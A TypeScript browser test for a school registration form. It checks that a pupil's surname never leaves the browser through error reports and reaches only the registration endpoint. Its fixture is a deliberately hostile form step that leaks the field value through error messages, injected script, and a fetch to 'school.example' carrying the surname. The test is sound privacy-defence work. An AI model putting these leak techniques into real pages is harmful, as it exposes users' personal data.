import type { VisitReport } from 'contract';
import { newVisit } from '../src/newVisit';
import { recordingProxy, type RecordedRequest } from '../src/network/recordingProxy';
import { publishFaulty, throwsOnBreak } from '../src/remoteFaults';
import { expect, test } from '../src/test';

const SURNAME = 'Zqxjkvwzqxjkvw';

/** Ways in which a step's code can put an answer into what browsers say of its failures, and their kind. */
const BETRAYALS = {
  message: 'handler',
  'class name': 'handler',
  'rejected text': 'rejection',
  // Trusted Types refuse it: the step's own line throws, and the browser's violation quotes the text.
  'inline script': 'handler',
  'address of a request': 'policy',
} as const;

declare global {
  interface Window {
    /** Of the hostile step: fails in one of the ways, with what is in the surname's field. */
    betray?: (way: keyof typeof BETRAYALS) => void;
  }
}

/** A version of the first step that says the surname in whatever it throws; in its render, after an event `break`. */
const hostileStep = {
  before: `
const surname = () => document.querySelector('[name=surname]').value;
const withName = (name) => Object.assign(new Error('on purpose'), { name });
const fails = {
  message: () => { throw new Error(surname()); },
  'class name': () => { throw withName(surname()); },
  'rejected text': () => { void Promise.reject(surname()); },
  'inline script': () => {
    const textContent = '"' + surname() + '"';
    document.head.append(Object.assign(document.createElement('script'), { textContent }));
  },
  'address of a request': () => {
    fetch('https://school.example/' + surname()).catch(() => {});
  },
};
window.betray = (way) => setTimeout(fails[way]);
`,
  after: throwsOnBreak('withName(surname())'),
};

/** The request's line, headers and body. */
const bytesOf = ({ method, url, headers, body }: RecordedRequest) =>
  Buffer.concat([Buffer.from([method, url, ...headers].join('\n'), 'latin1'), body]);

/** As it is, in hexadecimal, and in base64 at each offset. */
const ENCODED = [
  SURNAME,
  Buffer.from(SURNAME).toString('hex'),
  ...[0, 1, 2].map((offset) =>
    Buffer.from(`${' '.repeat(offset)}${SURNAME}`)
      .toString('base64')
      .slice(4, -4),
  ),
];
const hasSurname = (request: RecordedRequest) =>
  ENCODED.some((text) => bytesOf(request).includes(text));

const isTo = (path: string) => (request: RecordedRequest) =>
  request.method === 'POST' && request.url === path;

const reportsIn = (requests: readonly RecordedRequest[]) =>
  requests
    .filter(isTo('/api/visits'))
    .map(({ body }) => JSON.parse(body.toString()) as VisitReport);

test(
  'nothing that a failing step says of an answer leaves the browser, but in the registration',
  { tag: '@slow' },
  async ({ browser, releases, released }) => {
    await publishFaulty(releases, 'step-pupil', '1.0.9', hostileStep);
    await released.release('promote', 'step-pupil@1.0.9', '--force', 'play', '--why', 'a test');
    const proxy = await recordingProxy(released.url);
    const { form, visit } = await newVisit(browser, { ...released, url: proxy.url });
    const failures = () =>
      reportsIn(proxy.requests).flatMap((one) => (one.type === 'failed' ? [one.fault] : []));

    await form.opens();
    await form.fillsInPupil({ surname: SURNAME });
    const kinds: string[] = [];
    for (const [way, kind] of Object.entries(BETRAYALS)) {
      await visit.waitForFunction(() => window.betray !== undefined);
      await expect(form.field('Họ')).toHaveValue(SURNAME);
      await visit.evaluate((named) => window.betray?.(named), way as keyof typeof BETRAYALS);
      kinds.push(kind);
      await expect.poll(() => failures().map((fault) => fault.kind), way).toEqual(kinds);
      // A visit reports one failure.
      await form.opens();
    }
    await visit.waitForFunction(() => window.betray !== undefined);
    await visit.evaluate(() => dispatchEvent(new Event('break')));
    await expect.poll(() => failures().at(-1)?.kind).toBe('render');
    for (const fault of failures()) {
      expect(fault).toMatchObject({ step: 'step-pupil', version: '1.0.9' });
    }
    await form.continues();
    await form.fillsInContact();
    await form.continues();
    await form.fillsInFromSchool();
    await form.registers();
    await visit.context().close();
    proxy.close();

    const types = reportsIn(proxy.requests).map(({ type }) => type);
    expect(new Set(types)).toEqual(new Set(['begun', 'failed', 'ended']));
    const withSurname = proxy.requests.filter(hasSurname).map(({ url }) => url);
    expect(withSurname).toEqual(['/api/student']);
  },
);
